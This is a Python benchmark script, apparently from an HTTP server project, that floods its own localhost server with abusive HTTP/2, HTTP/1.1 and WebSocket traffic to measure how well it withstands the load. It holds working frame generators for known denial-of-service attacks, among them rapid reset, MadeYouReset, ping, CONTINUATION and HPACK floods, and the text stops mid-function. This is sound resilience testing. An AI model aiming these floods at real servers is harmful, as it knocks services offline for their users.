"""Abuse benchmark: how Plexicorn holds up while one client floods it, seen from another client.

Run from the repository (``make abuse`` installs what it needs)::

    .venv/bin/python benchmarks/abuse.py                     # every attack, 3 s each, over TLS
    .venv/bin/python benchmarks/abuse.py --seconds 2 --transport h2c --attack ping-flood
    .venv/bin/python benchmarks/abuse.py --list              # the attacks and what they send

One Plexicorn process serves benchmarks/app.py on 127.0.0.1. For each attack:

- a *probe* (this process, its own HTTP/2 connection via httpx) sends ``GET /`` every 100 ms
  and times each answer: that is what a well-behaved client of the same server lives through;
- an *attacker* (a separate process, so its CPU use does not stall the probe's timing) opens
  one connection and writes abusive frames as fast as it can, in batches of about 500 frames,
  for ``--seconds`` or until the server ends the connection. It reads only to notice the end
  (GOAWAY, RST_STREAM, a WebSocket Close, the TCP connection closing);
- a sampler reads the server's RSS and CPU time from /proc.

This is a measurement, not a test: nothing is asserted. It prints one row per attack and
exits 0 once the measurements are done, whatever the server did; 2 on bad arguments, 1 when
the server could not be started. See benchmarks/README.md for how to read the table.
"""

from __future__ import annotations

import argparse
import base64
import dataclasses
import json
import math
import multiprocessing
import os
import platform
import random
import re
import select
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parent.parent
if str(REPO) not in sys.path:  # run as `python benchmarks/abuse.py`: make `interop` importable
    sys.path.insert(0, str(REPO))

from interop.h2raw import (  # noqa: E402  (after the sys.path fix above)
    PREFACE,
    ErrorCode,
    FrameType,
    Setting,
    code_name,
    continuation,
    data,
    headers,
    hpack_int,
    hpack_string,
    literal_without_indexing,
    ping,
    priority,
    raw_frame,
    rst_stream,
    settings,
    window_update,
)

HOST = "127.0.0.1"
APP = "benchmarks.app:app"
PROBE_INTERVAL = 0.1  # the probe's GET / cadence (the "every 100 ms")
BATCH_FRAMES = 500  # frames per attacker write: big enough that syscalls are not the bottleneck
MAX_STREAM_ID = 2**31 - 1
START_TIMEOUT = 20.0
HANDSHAKE_TIMEOUT = 5.0
END_TAIL = 1.0  # after an end (GOAWAY, Close): how long to wait for the TCP close that follows
FINAL_READ = 0.3  # after the attack time: a last look for an end already on its way
NO_DRAIN_FINAL_READ = 2.0  # --no-drain: reading the whole unread backlog takes longer
_LISTENING = re.compile(r"Listening on (https?)://127\.0\.0\.1:(\d+)")
_LOG_LEVEL = re.compile(r"^\S+ (WARNING|ERROR|CRITICAL)\b\s*(.*)")


# --- HPACK blocks ------------------------------------------------------------------------------
# Built from the static table and literals "without indexing" only: such a block leaves the
# server's dynamic table untouched, so one block can be sent any number of times and the
# attacker needs no HPACK state (and no decoder for the server's many responses).

def _name_ref_literal(index: int, value: bytes) -> bytes:
    """RFC 7541 §6.2.2: literal without indexing, name from static table entry `index`."""
    return hpack_int(index, 4, 0x00) + hpack_string(value)


def request_block(authority: bytes, *, tls: bool, method: bytes = b"GET", path: bytes = b"/") -> bytes:
    block = {b"GET": b"\x82", b"POST": b"\x83"}[method] + (b"\x87" if tls else b"\x86")
    block += b"\x84" if path == b"/" else _name_ref_literal(4, path)
    return block + _name_ref_literal(1, authority)


# Static entry 16 is `accept-encoding: gzip, deflate`: a regular field that may repeat, so a
# request made of thousands of one-byte references to it stays a valid GET. Each counts
# 32 + 15 + 13 = 60 bytes against SETTINGS_MAX_HEADER_LIST_SIZE (RFC 7541 §4.1).
CRUMB = b"\x90"
CRUMB_SIZE = 32 + len(b"accept-encoding") + len(b"gzip, deflate")


def header_list_size(fields: list[tuple[bytes, bytes]]) -> int:
    return sum(32 + len(name) + len(value) for name, value in fields)


# --- the attacker's connection -----------------------------------------------------------------

class Wire:
    """One socket (TCP or TLS) written and read without blocking, one TLS record at a time."""

    def __init__(self, port: int, tls: bool, alpn: str) -> None:
        raw = socket.create_connection((HOST, port), timeout=HANDSHAKE_TIMEOUT)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.alpn: str | None = None
        if tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE  # a throw-away --dev-cert certificate
            context.set_alpn_protocols([alpn])
            self.sock: socket.socket = context.wrap_socket(raw, server_hostname="localhost")
            self.alpn = self.sock.selected_alpn_protocol()  # type: ignore[attr-defined]
        else:
            self.sock = raw
        self.tls = tls
        self.eof = False  # the read side ended (close or reset)
        self.reset = False  # ... with a TCP reset, or a write failed
        self.write_failed = False
        self.bytes_sent = 0

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass

    def send_blocking(self, payload: bytes) -> None:
        self.sock.settimeout(HANDSHAKE_TIMEOUT)
        self.sock.sendall(payload)
        self.bytes_sent += len(payload)

    def recv_blocking(self, deadline: float) -> bytes:
        """Bytes read before `deadline` (b"" at end of stream); TimeoutError after it."""
        self.sock.settimeout(max(0.001, deadline - time.monotonic()))
        try:
            chunk = self.sock.recv(65536)
        except (ConnectionResetError, BrokenPipeError):
            self.reset = True
            chunk = b""
        if not chunk:
            self.eof = True
        return chunk

    def nonblocking(self) -> None:
        self.sock.setblocking(False)

    def has_buffered(self) -> bool:
        """TLS: decrypted bytes wait in the SSL object, which select() cannot see."""
        return self.tls and self.sock.pending() > 0  # type: ignore[attr-defined]

    def try_recv(self, limit: int = 1 << 20) -> bytes:
        """What can be read now without blocking (at most about `limit` bytes)."""
        out = bytearray()
        while len(out) < limit and not self.eof:
            try:
                chunk = self.sock.recv(65536)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                break
            except (ConnectionResetError, BrokenPipeError, ssl.SSLError, OSError):
                self.reset = True
                self.eof = True
                break
            if not chunk:
                self.eof = True
                break
            out += chunk
        return bytes(out)

    def try_send(self, view: memoryview) -> int:
        """Bytes of `view` written now (0: would block). TLS writes at most one 16 KiB record,
        so a write that would block is retried later with the same bytes, as OpenSSL requires."""
        try:
            sent = self.sock.send(view[:16384] if self.tls else view[:262144])
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            return 0
        except (ConnectionResetError, BrokenPipeError, ssl.SSLError, OSError):
            # The peer is gone, but what it sent before (a GOAWAY) may still wait to be read:
            # leave `eof` to the reads.
            self.reset = self.write_failed = True
            return 0
        self.bytes_sent += sent
        return sent


class WsReader:
    """The server's WebSocket frames (unmasked): notes a Close and counts the rest."""

    def __init__(self) -> None:
        self.buffer = bytearray()
        self.close_code: int | None = None
        self.counts: Counter[str] = Counter()

    def feed(self, chunk: bytes) -> None:
        self.buffer += chunk
        while len(self.buffer) >= 2:
            opcode = self.buffer[0] & 0x0F
            masked = self.buffer[1] & 0x80
            length = self.buffer[1] & 0x7F
            offset = 2
            if length == 126:
                if len(self.buffer) < 4:
                    return
                length = int.from_bytes(self.buffer[2:4], "big")
                offset = 4
            elif length == 127:
                if len(self.buffer) < 10:
                    return
                length = int.from_bytes(self.buffer[2:10], "big")
                offset = 10
            if masked:
                offset += 4
            if len(self.buffer) < offset + length:
                return
            payload = bytes(self.buffer[offset:offset + length])
            del self.buffer[:offset + length]
            name = {0x0: "continuation", 0x1: "text", 0x2: "binary", 0x8: "close", 0x9: "ping",
                    0xA: "pong"}.get(opcode, f"op{opcode}")
            self.counts[name] += 1
            if opcode == 0x8 and self.close_code is None:
                self.close_code = int.from_bytes(payload[:2], "big") if len(payload) >= 2 else 1005

    @property
    def end(self) -> str | None:
        return None if self.close_code is None else f"WS Close {self.close_code}"


class H2Reader:
    """The server's HTTP/2 frames, parsed by hand (fast enough to keep up with a flood's answers).

    It records what ends the connection (GOAWAY) or the watched stream (RST_STREAM), counts
    resets and responses, tracks our send windows, and queues the few frames a client owes
    (SETTINGS and PING ACKs, WINDOW_UPDATEs for a watched stream's data).
    """

    def __init__(self, *, decode_headers: bool = False) -> None:
        self.buffer = bytearray()
        self.server_settings: dict[int, int] = {}
        self.got_settings = False
        self.goaway: tuple[int, int] | None = None  # (error code, last stream id)
        self.rst_counts: Counter[int] = Counter()
        self.frame_counts: Counter[int] = Counter()
        self.ended_streams: set[int] = set()
        self.responses = 0  # response HEADERS (not trailers), including 4xx/5xx
        self.statuses: Counter[int] = Counter()
        self.outbox: list[bytes] = []
        self.conn_window = 65535
        self.stream_windows: dict[int, int] = {}
        self.watch_stream: int | None = None  # a WebSocket's stream: its DATA feeds `ws`
        self.watch_status: int | None = None
        self.watch_reset: int | None = None
        self.ws = WsReader()
        self._unacked_data = 0
        self._decoder: Any = None
        self._block: tuple[int, int, bytearray] | None = None
        if decode_headers:
            import hpack
            self._decoder = hpack.Decoder()
            self._decoder.max_header_list_size = 1 << 30

    @property
    def initial_window(self) -> int:
        return self.server_settings.get(Setting.INITIAL_WINDOW_SIZE, 65535)

    def open_stream(self, stream_id: int) -> None:
        self.stream_windows[stream_id] = self.initial_window

    def take_outbox(self) -> bytes:
        out, self.outbox = b"".join(self.outbox), []
        return out

    def feed(self, chunk: bytes) -> None:
        self.buffer += chunk
        view = self.buffer
        offset = 0
        while len(view) - offset >= 9:
            length = int.from_bytes(view[offset:offset + 3], "big")
            if len(view) - offset < 9 + length:
                break
            ftype, flags = view[offset + 3], view[offset + 4]
            sid = int.from_bytes(view[offset + 5:offset + 9], "big") & 0x7FFFFFFF
            payload = bytes(view[offset + 9:offset + 9 + length])
            offset += 9 + length
            self._frame(ftype, flags, sid, payload)
        del self.buffer[:offset]

    def _frame(self, ftype: int, flags: int, sid: int, payload: bytes) -> None:
        self.frame_counts[ftype] += 1
        if ftype == FrameType.GOAWAY and len(payload) >= 8:
            if self.goaway is None:
                self.goaway = (int.from_bytes(payload[4:8], "big"),
                               int.from_bytes(payload[:4], "big") & 0x7FFFFFFF)
        elif ftype == FrameType.RST_STREAM and len(payload) >= 4:
            code = int.from_bytes(payload[:4], "big")
            self.rst_counts[code] += 1
            self.ended_streams.add(sid)
            if sid == self.watch_stream and self.watch_reset is None:
                self.watch_reset = code
        elif ftype == FrameType.SETTINGS and not flags & 0x1:
            for i in range(0, len(payload) - 5, 6):
                key = int.from_bytes(payload[i:i + 2], "big")
                value = int.from_bytes(payload[i + 2:i + 6], "big")
                if key == Setting.INITIAL_WINDOW_SIZE:
                    delta = value - self.initial_window
                    for stream in self.stream_windows:
                        self.stream_windows[stream] += delta
                self.server_settings[key] = value
            self.got_settings = True
            self.outbox.append(settings(ack=True))
        elif ftype == FrameType.PING and not flags & 0x1:
            self.outbox.append(ping(payload[:8], ack=True))
        elif ftype == FrameType.WINDOW_UPDATE and len(payload) >= 4:
            increment = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
            if sid == 0:
                self.conn_window += increment
            elif sid in self.stream_windows:
                self.stream_windows[sid] += increment
        elif ftype in (FrameType.HEADERS, FrameType.CONTINUATION):
            if ftype == FrameType.HEADERS:
                block = _strip_headers_payload(flags, payload)
                self._block = (sid, flags, bytearray(block))
            elif self._block is not None:
                self._block[2].extend(payload)
            if flags & 0x4 and self._block is not None:  # END_HEADERS
                self._end_block(*self._block)
                self._block = None
            if ftype == FrameType.HEADERS and flags & 0x1:
                self.ended_streams.add(sid)
        elif ftype == FrameType.DATA:
            if flags & 0x1:
                self.ended_streams.add(sid)
            if sid == self.watch_stream:
                self.ws.feed(_strip_padding(flags, payload))
                # Re-open the window the server's echoes use, as a reading client would.
                self._unacked_data += len(payload)
                if self._unacked_data >= 32768:
                    self.outbox.append(window_update(sid, self._unacked_data))
                    self._unacked_data = 0

    def _end_block(self, sid: int, flags: int, block: bytearray) -> None:
        status: int | None = None
        if self._decoder is not None:
            try:
                fields = self._decoder.decode(bytes(block), raw=True)
                raw_status = dict(fields).get(b":status")
                status = int(raw_status) if raw_status else None
            except Exception:  # noqa: BLE001  (a broken block is reported as status 0)
                status = 0
        if status is None or status >= 200:
            self.responses += 1
        if status is not None:
            self.statuses[status] += 1
            if sid == self.watch_stream and self.watch_status is None and status >= 200:
                self.watch_status = status

    @property
    def end(self) -> str | None:
        if self.goaway is not None:
            code, last = self.goaway
            return f"GOAWAY {code_name(code)} last={last}"
        if self.watch_reset is not None:
            return f"RST_STREAM {code_name(self.watch_reset)}"
        return self.ws.end

    def details(self) -> list[str]:
        out = []
        if self.rst_counts:
            out.append("RST " + ",".join(f"{code_name(c)}:{n}" for c, n in self.rst_counts.most_common()))
        if self.responses:
            statuses = ",".join(f"{s}:{n}" for s, n in sorted(self.statuses.items()))
            out.append(f"{self.responses} responses" + (f" ({statuses})" if statuses else ""))
        if self.ws.counts:
            out.append("WS in " + ",".join(f"{k}:{n}" for k, n in self.ws.counts.most_common()))
        return out


def _strip_padding(flags: int, payload: bytes) -> bytes:
    if flags & 0x8 and payload:  # PADDED
        pad = payload[0]
        return payload[1:len(payload) - pad]
    return payload


def _strip_headers_payload(flags: int, payload: bytes) -> bytes:
    payload = _strip_padding(flags, payload)
    return payload[5:] if flags & 0x20 else payload  # PRIORITY


class H1Reader:
    """HTTP/1.1 responses to pipelined requests: counts status lines (close enough for a count)."""

    _STATUS = re.compile(rb"HTTP/1\.[01] (\d{3}) ")

    def __init__(self) -> None:
        self.tail = b""
        self.statuses: Counter[int] = Counter()
        self.ws = WsReader()
        self.websocket = False  # after a 101: the bytes are WebSocket frames

    def feed(self, chunk: bytes) -> None:
        if self.websocket:
            self.ws.feed(chunk)
            return
        text = self.tail + chunk
        for match in self._STATUS.finditer(text):
            if match.end() > len(self.tail):  # not counted with the previous chunk
                self.statuses[int(match.group(1))] += 1
        self.tail = text[-16:]

    def take_outbox(self) -> bytes:
        return b""  # a WebSocket client owes nothing here: pongs are optional, pings are ours

    @property
    def end(self) -> str | None:
        return self.ws.end if self.websocket else None

    def details(self) -> list[str]:
        if self.websocket:
            return ["WS in " + ",".join(f"{k}:{n}" for k, n in self.ws.counts.most_common())] if self.ws.counts else []
        if not self.statuses:
            return []
        return [f"{sum(self.statuses.values())} responses ("
                + ",".join(f"{s}:{n}" for s, n in sorted(self.statuses.items())) + ")"]


# --- attacks -----------------------------------------------------------------------------------

class Source:
    """What one attack writes: `setup()` once, then `batch()` until the time is up."""

    unit = "frames"
    max_units: int | None = None  # stop sending after this many (the connection stays open)

    def __init__(self, ctx: AttackContext) -> None:
        self.ctx = ctx
        self.next_stream = 1

    def take_stream(self) -> int | None:
        sid = self.next_stream
        if sid > MAX_STREAM_ID:
            return None
        self.next_stream += 2
        return sid

    def setup(self) -> bytes:
        return b""

    def batch(self) -> tuple[bytes, int] | None:
        """The next frames and how many units they are; None: nothing to send now."""
        raise NotImplementedError


@dataclasses.dataclass
class AttackContext:
    tls: bool
    authority: bytes
    reader: H2Reader | H1Reader
    rng: random.Random


class PairPerStream(Source):
    """New streams, each a few frames (rapid reset, MadeYouReset, malformed requests)."""

    unit = "streams"
    frames_per_stream = 2

    def frames(self, sid: int) -> bytes:
        raise NotImplementedError

    def batch(self) -> tuple[bytes, int] | None:
        out = []
        for _ in range(BATCH_FRAMES // self.frames_per_stream):
            sid = self.take_stream()
            if sid is None:
                break
            out.append(self.frames(sid))
        return (b"".join(out), len(out)) if out else None


class RapidReset(PairPerStream):
    """HEADERS (a valid GET) then RST_STREAM(CANCEL), on ever new streams (CVE-2023-44487)."""

    def setup(self) -> bytes:
        self.block = request_block(self.ctx.authority, tls=self.ctx.tls)
        return b""

    def frames(self, sid: int) -> bytes:
        return headers(sid, self.block) + rst_stream(sid, ErrorCode.CANCEL)


class MadeYouResetWindow(PairPerStream):
    """A GET, then two WINDOW_UPDATEs of 2^31-1 on its stream: the server must reset it
    (FLOW_CONTROL_ERROR), so the client gets resets without sending any (CVE-2025-8671)."""

    frames_per_stream = 3

    def setup(self) -> bytes:
        self.block = request_block(self.ctx.authority, tls=self.ctx.tls)
        return b""

    def frames(self, sid: int) -> bytes:
        return headers(sid, self.block) + window_update(sid, 0x7FFFFFFF) * 2


class MadeYouResetData(PairPerStream):
    """A POST ending with its HEADERS, then DATA on the same stream (STREAM_CLOSED)."""

    def setup(self) -> bytes:
        self.block = request_block(self.ctx.authority, tls=self.ctx.tls, method=b"POST")
        return b""

    def frames(self, sid: int) -> bytes:
        return headers(sid, self.block, end_stream=True) + data(sid, b"x")


class MalformedFlood(PairPerStream):
    """GETs with an upper-case field name: each is malformed (RFC 9113 §8.2.1) and earns a reset."""

    frames_per_stream = 1

    def setup(self) -> bytes:
        self.block = request_block(self.ctx.authority, tls=self.ctx.tls) + literal_without_indexing(b"X-Upper", b"1")
        return b""

    def frames(self, sid: int) -> bytes:
        return headers(sid, self.block)


class StreamOverrun(PairPerStream):
    """Our SETTINGS_INITIAL_WINDOW_SIZE is 0, so no response body can be sent and each stream
    stays open; then 2,000 GETs: all beyond the server's concurrency limit must be refused."""

    frames_per_stream = 1
    max_units = 2000
    client_settings = {Setting.INITIAL_WINDOW_SIZE: 0}

    def setup(self) -> bytes:
        self.block = request_block(self.ctx.authority, tls=self.ctx.tls)
        self.sent = 0
        return b""

    def batch(self) -> tuple[bytes, int] | None:
        assert self.max_units is not None
        n = min(BATCH_FRAMES, self.max_units - self.sent)
        if n <= 0:
            return None
        out = b"".join(headers(self.take_stream() or MAX_STREAM_ID, self.block) for _ in range(n))
        self.sent += n
        return out, n


class HpackCrumbs(Source):
    """Valid GETs whose header block is thousands of one-byte references to a static entry
    (each decoded into a 60-byte field), sized just under SETTINGS_MAX_HEADER_LIST_SIZE:
    cheap to send, costly to decode. At most as many in flight as the server allows."""

    unit = "streams"
    factor = 0.98  # of the server's header list limit

    def setup(self) -> bytes:
        reader = self.ctx.reader
        assert isinstance(reader, H2Reader)
        limit = reader.server_settings.get(Setting.MAX_HEADER_LIST_SIZE, 65536)
        base = header_list_size([(b":method", b"GET"), (b":scheme", b"https" if self.ctx.tls else b"http"),
                                 (b":path", b"/"), (b":authority", self.ctx.authority)])
        self.crumbs = max(1, int((limit * self.factor - base) // CRUMB_SIZE))
        self.block = request_block(self.ctx.authority, tls=self.ctx.tls) + CRUMB * self.crumbs
        self.max_in_flight = reader.server_settings.get(Setting.MAX_CONCURRENT_STREAMS, 100)
        self.opened: list[int] = []
        self.note = f"{self.crumbs} crumbs/block = {base + self.crumbs * CRUMB_SIZE} B decoded, limit {limit}"
        return b""

    def batch(self) -> tuple[bytes, int] | None:
        reader = self.ctx.reader
        assert isinstance(reader, H2Reader)
        self.opened = [s for s in self.opened if s not in reader.ended_streams]
        room = min(self.max_in_flight - len(self.opened), max(1, 16384 * 8 // len(self.block)))
        out = []
        for _ in range(room):
            sid = self.take_stream()
            if sid is None:
                break
            self.opened.append(sid)
            out.append(headers(sid, self.block))
        return (b"".join(out), len(out)) if out else None


class HpackCrumbsOver(HpackCrumbs):
    """The same with blocks three times over the limit: each should earn a 431 (over four
    times it is a decompression bomb and the connection ends at the first one)."""

    factor = 3.0


class FrameFlood(Source):
    """The same small frame over and over."""

    def frame(self) -> bytes:
        raise NotImplementedError

    def batch(self) -> tuple[bytes, int] | None:
        return b"".join(self.frame() for _ in range(BATCH_FRAMES)), BATCH_FRAMES


class SettingsFlood(FrameFlood):
    """SETTINGS (INITIAL_WINDOW_SIZE 65535, the default: a no-op) whose ACKs are never needed."""

    def frame(self) -> bytes:
        return settings({Setting.INITIAL_WINDOW_SIZE: 65535})


class PingFlood(FrameFlood):
    """PINGs, each asking for an ACK (CVE-2019-9512)."""

    def setup(self) -> bytes:
        self.counter = 0
        return b""

    def frame(self) -> bytes:
        self.counter += 1
        return ping(self.counter.to_bytes(8, "big"))


class PriorityFlood(FrameFlood):
    """RFC 7540 PRIORITY frames on random idle odd streams (the server says it ignores them)."""

    def frame(self) -> bytes:
        return priority(self.ctx.rng.randrange(1, MAX_STREAM_ID, 2), depends_on=0)


class PriorityUpdateFlood(FrameFlood):
    """RFC 9218 PRIORITY_UPDATE for random streams not opened yet (a server that keeps them
    for later requests must bound what it keeps)."""

    def frame(self) -> bytes:
        prioritized = self.ctx.rng.randrange(1, MAX_STREAM_ID, 2)
        return raw_frame(FrameType.PRIORITY_UPDATE, 0, 0, prioritized.to_bytes(4, "big") + b"u=3")


class UnknownFrames(FrameFlood):
    """Frames of an unknown type (0x20), which a receiver must ignore (RFC 9113 §4.1)."""

    def frame(self) -> bytes:
        return raw_frame(0x20, 0, 0, b"\0" * 8)


class EmptyDataFlood(FrameFlood):
    """One POST left open, then zero-length DATA frames on it (CVE-2019-9518)."""

    def setup(self) -> bytes:
        sid = self.take_stream() or 1
        self.sid = sid
        self.empty = data(sid, b"")
        return headers(sid, request_block(self.ctx.authority, tls=self.ctx.tls, method=b"POST", path=b"/echo"),
                       end_stream=False)

    def frame(self) -> bytes:
        return self.empty


class ContinuationFlood(FrameFlood):
    """HEADERS without END_HEADERS, then empty CONTINUATIONs that never end the block."""

    def setup(self) -> bytes:
        sid = self.take_stream() or 1
        self.empty = continuation(sid, b"", end_headers=False)
        return headers(sid, request_block(self.ctx.authority, tls=self.ctx.tls), end_headers=False)

    def frame(self) -> bytes:
        return self.empty


# WebSocket frames from a client must be masked (RFC 6455 §5.3). A fixed key is still a mask.
_MASK = b"\x1f\x2e\x3d\x4c"


def ws_frame(opcode: int, payload: bytes) -> bytes:
    assert len(payload) < 126
    masked = bytes(b ^ _MASK[i % 4] for i, b in enumerate(payload))
    return bytes([0x80 | opcode, 0x80 | len(payload)]) + _MASK + masked


WS_PAIR = ws_frame(0x9, b"ping") + ws_frame(0x1, b"a")  # a ping and a one-letter text message


class WsPingFloodH1(Source):
    """After an HTTP/1.1 upgrade to /ws: masked pings and tiny texts, pongs left unread."""

    unit = "pings"

    def batch(self) -> tuple[bytes, int] | None:
        n = BATCH_FRAMES // 2
        return WS_PAIR * n, n


class WsPingFloodH2(Source):
    """The same inside the DATA frames of an RFC 8441 extended CONNECT stream, within the
    stream's flow-control window (20 pings and 20 texts per DATA frame)."""

    unit = "pings"
    pairs_per_data = 20

    def setup(self) -> bytes:
        self.payload = WS_PAIR * self.pairs_per_data
        return b""

    def batch(self) -> tuple[bytes, int] | None:
        reader = self.ctx.reader
        assert isinstance(reader, H2Reader) and reader.watch_stream is not None
        sid = reader.watch_stream
        out = []
        size = len(self.payload)
        while (len(out) < BATCH_FRAMES // (2 * self.pairs_per_data) and reader.conn_window >= size
               and reader.stream_windows.get(sid, 0) >= size):
            reader.conn_window -= size
            reader.stream_windows[sid] -= size
            out.append(data(sid, self.payload))
        return (b"".join(out), len(out) * self.pairs_per_data) if out else None


class H1PipelineFlood(Source):
    """Pipelined HTTP/1.1 `GET /` requests, written without waiting for any answer."""

    unit = "requests"

    def setup(self) -> bytes:
        self.request = b"GET / HTTP/1.1\r\nHost: " + self.ctx.authority + b"\r\n\r\n"
        return b""

    def batch(self) -> tuple[bytes, int] | None:
        return self.request * BATCH_FRAMES, BATCH_FRAMES


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    kind: str  # "h2", "ws-h2" (HTTP/2 with a WebSocket stream), "h1", "ws-h1"
    source: type[Source]

    @property
    def summary(self) -> str:
        return " ".join((self.source.__doc__ or "").split("\n\n")[0].split())


ATTACKS: tuple[Attack, ...] = (
    Attack("rapid-reset", "h2", RapidReset),
    Attack("madeyoureset-window", "h2", MadeYouResetWindow),
    Attack("madeyoureset-data", "h2", MadeYouResetData),
    Attack("settings-flood", "h2", SettingsFlood),
    Attack("ping-flood", "h2", PingFlood),
    Attack("priority-flood", "h2", PriorityFlood),
    Attack("priority-update-flood", "h2", PriorityUpdateFlood),
    Attack("malformed-flood", "h2", MalformedFlood),
    Attack("empty-data-flood", "h2", EmptyDataFlood),
    Attack("continuation-flood", "h2", ContinuationFlood),
    Attack("unknown-frames", "h2", UnknownFrames),
    Attack("stream-overrun", "h2", StreamOverrun),
    Attack("hpack-crumbs", "h2", HpackCrumbs),
    Attack("hpack-crumbs-over", "h2", HpackCrumbsOver),
    Attack("ws-ping-flood-h1", "ws-h1", WsPingFloodH1),
    Attack("ws-ping-flood-h2", "ws-h2", WsPingFloodH2),
    Attack("h1-pipeline-flood", "h1", H1PipelineFlood),
)
BASELINE = "baseline"  # the probe alone, no attacker: what the other rows compare with
ATTACK_NAMES = [a.name for a in ATTACKS]


# --- the attacker process ----------------------------------------------------------------------

@dataclasses.dataclass
class AttackResult:
    ended_by: str = "still open"
    t_end: float | None = None  # seconds from the attack's first frame to the end seen
    units: int = 0  # abusive units written in all
    units_at_end: int | None = None  # ... when the end was seen
    unit: str = "frames"
    bytes_sent: int = 0
    send_blocked: float = 0.0  # seconds the socket would take no more (the server stopped reading)
    source_waited: float = 0.0  # seconds the attack waited for room (flow-control window, streams)
    details: list[str] = dataclasses.field(default_factory=list)
    error: str | None = None


def run_attacker(name: str, port: int, tls: bool, seconds: float, drain: bool,
                 reports: Any) -> None:
    """Process entry point: connect, report the start time, attack, report the result."""
    attack = next(a for a in ATTACKS if a.name == name)
    result = AttackResult(unit=attack.source.unit)
    wire: Wire | None = None
    try:
        wire, source, reader = _connect(attack, port, tls, result)
        if source is not None:
            t0 = time.monotonic()
            reports.put(("started", t0))
            _drive(wire, source, reader, t0, seconds, drain, result)
    except Exception as exc:  # noqa: BLE001  (whatever broke is the row's answer)
        result.error = f"{type(exc).__name__}: {exc}"
        result.ended_by = "attacker error"
    finally:
        if wire is not None:
            result.bytes_sent = wire.bytes_sent
            wire.close()
    reports.put(("result", dataclasses.asdict(result)))


def _connect(attack: Attack, port: int, tls: bool, result: AttackResult
             ) -> tuple[Wire, Source | None, H2Reader | H1Reader]:
    """The attack's connection, ready for its first abusive frame (source None: it could not be)."""
    authority = f"{HOST}:{port}".encode()
    h2 = attack.kind in ("h2", "ws-h2")
    wire = Wire(port, tls, "h2" if h2 else "http/1.1")
    if tls and wire.alpn != ("h2" if h2 else "http/1.1"):
        result.ended_by = f"ALPN {wire.alpn!r}"
        return wire, None, H1Reader()
    deadline = time.monotonic() + HANDSHAKE_TIMEOUT
    reader: H2Reader | H1Reader
    if h2:
        # Decoding every response block keeps our HPACK state in step, so statuses can be counted.
        reader = H2Reader(decode_headers=True)
        client_settings = getattr(attack.source, "client_settings", {})
        # A wide-open connection window: the server's answers are never held back by us.
        wire.send_blocking(PREFACE + settings(client_settings) + window_update(0, MAX_STREAM_ID - 65535))
        while not reader.got_settings:
            chunk = wire.recv_blocking(deadline)
            if not chunk:
                result.ended_by = "closed during the HTTP/2 handshake"
                return wire, None, reader
            reader.feed(chunk)
        wire.send_blocking(reader.take_outbox())
    else:
        reader = H1Reader()
    ctx = AttackContext(tls=tls, authority=authority, reader=reader, rng=random.Random(8671))
    source = attack.source(ctx)
    if attack.kind == "ws-h1":
        assert isinstance(reader, H1Reader)
        if not _ws_h1_handshake(wire, reader, authority, deadline, result):
            return wire, None, reader
    elif attack.kind == "ws-h2":
        assert isinstance(reader, H2Reader)
        if not _ws_h2_handshake(wire, reader, source, authority, tls, deadline, result):
            return wire, None, reader
    first = source.setup()
    if isinstance(source, HpackCrumbs):
        result.details.append(source.note)
    if first:
        wire.send_blocking(first)
    return wire, source, reader


def _ws_h1_handshake(wire: Wire, reader: H1Reader, authority: bytes, deadline: float,
                     result: AttackResult) -> bool:
    key = base64.b64encode(os.urandom(16))
    wire.send_blocking(b"GET /ws HTTP/1.1\r\nHost: " + authority + b"\r\nUpgrade: websocket\r\n"
                       b"Connection: Upgrade\r\nSec-WebSocket-Key: " + key + b"\r\nSec-WebSocket-Version: 13\r\n\r\n")
    received = b""
    while b"\r\n\r\n" not in received:
        chunk = wire.recv_blocking(deadline)
        if not chunk:
            result.ended_by = "closed before the WebSocket handshake ended"
            return False
        received += chunk
    head, rest = received.split(b"\r\n\r\n", 1)
    status_line = head.split(b"\r\n", 1)[0].decode("latin-1")
    if " 101 " not in status_line + " ":
        result.ended_by = f"no WebSocket: {status_line}"
        return False
    reader.websocket = True
    reader.feed(rest)
    return True


def _ws_h2_handshake(wire: Wire, reader: H2Reader, source: Source, authority: bytes, tls: bool,
                     deadline: float, result: AttackResult) -> bool:
    import hpack

    if reader.server_settings.get(Setting.ENABLE_CONNECT_PROTOCOL) != 1:
        result.ended_by = "no SETTINGS_ENABLE_CONNECT_PROTOCOL"
        return False
    sid = source.take_stream() or 1
    block = hpack.Encoder().encode([
        (b":method", b"CONNECT"), (b":protocol", b"websocket"), (b":scheme", b"https" if tls else b"http"),
        (b":path", b"/ws"), (b":authority", authority), (b"sec-websocket-version", b"13")])
    reader.watch_stream = sid
    reader.open_stream(sid)
    wire.send_blocking(headers(sid, block, end_stream=False))
    while reader.watch_status is None:
        if reader.end:
            result.ended_by = f"{reader.end} before the WebSocket was accepted"
            return False
        chunk = wire.recv_blocking(deadline)
        if not chunk:
            result.ended_by = "closed before the WebSocket was accepted"
            return False
        reader.feed(chunk)
        wire.send_blocking(reader.take_outbox())
    if reader.watch_status != 200:
        result.ended_by = f"no WebSocket: :status {reader.watch_status}"
        return False
    return True


def _drive(wire: Wire, source: Source, reader: H2Reader | H1Reader, t0: float, seconds: float,
           drain: bool, result: AttackResult) -> None:
    """Write batches as fast as the socket takes them until the time is up or the server ends
    the connection; between writes, read (unless --no-drain) only to notice that end."""
    wire.nonblocking()
    deadline = t0 + seconds
    pending = memoryview(b"")
    pending_units = 0
    units = 0
    exhausted = False  # the source has nothing more to send (a cap, or stream ids used up)

    def end_seen() -> str | None:
        if reader.end:
            return reader.end
        if wire.eof or wire.write_failed:
            return "TCP reset" if wire.reset else "TCP close"
        return None

    while True:
        now = time.monotonic()
        if end_seen() or now >= deadline:
            break
        if not pending:
            acks = reader.take_outbox() if drain else b""
            produced = None
            if source.max_units is not None and units >= source.max_units:
                exhausted = True
            if not exhausted:
                produced = source.batch()
                if produced is None and not isinstance(source, (HpackCrumbs, WsPingFloodH2)):
                    exhausted = True  # those two wait for room; the others are done for good
